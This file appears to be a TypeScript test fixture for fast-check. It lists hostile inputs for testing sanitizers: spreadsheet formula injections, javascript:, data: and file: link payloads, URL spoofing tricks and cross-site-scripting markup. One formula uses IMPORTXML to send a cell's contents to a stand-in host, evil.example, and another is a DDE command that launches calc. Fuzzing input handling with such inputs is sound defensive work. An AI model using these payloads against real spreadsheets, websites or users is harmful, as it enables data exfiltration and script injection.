// Texts that somebody types in order to have them run, followed or calculated by somebody else.
import fc from 'fast-check';

/** What a spreadsheet takes for a formula. */
export const FORMULAS = [
  '=1+1',
  '+1+2',
  '-2-3',
  '@SUM(A1)',
  "'=1+1",
  '\t=1+1',
  '＝1+1',
  '=HYPERLINK("javascript:alert(1)";"Xem")',
  '=IMPORTXML("https://evil.example/?"&A1;"//a")',
  "=cmd|' /C calc'!A0",
];

/** What a browser or a reader takes for a link. */
export const LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\u0000script:alert(1)',
  ' \u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example',
  'https://google.com@evil.example/',
  'https://google.com\\@evil.example/',
  'https://evil.example/\u202Ecod.odt',
  'https:evil.example',
];

/** What a browser takes for a page. */
export const MARKUP = [
  '<img src=x onerror="window.hit=1">',
  '</script><script>window.hit=1</script>',
  '"><svg onload=window.hit=1>',
  '&lt;b&gt;&amp;',
  "'-window.hit=1-'",
  '{{window.hit=1}}',
  '<!--',
  ']]>',
  '<a href="javascript:window.hit=1">x</a>',
];

/** One of them, or several in a text. */
export const hostile: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...FORMULAS, ...LINKS, ...MARKUP),
      fc.string({ unit: fc.constantFrom(...'=+-@\'"<>&:/\t \\javascript%0;,.\u200B\u202E') }),
    ),
    { minLength: 1, maxLength: 3 },
  )
  .map((parts) => parts.join(' '));
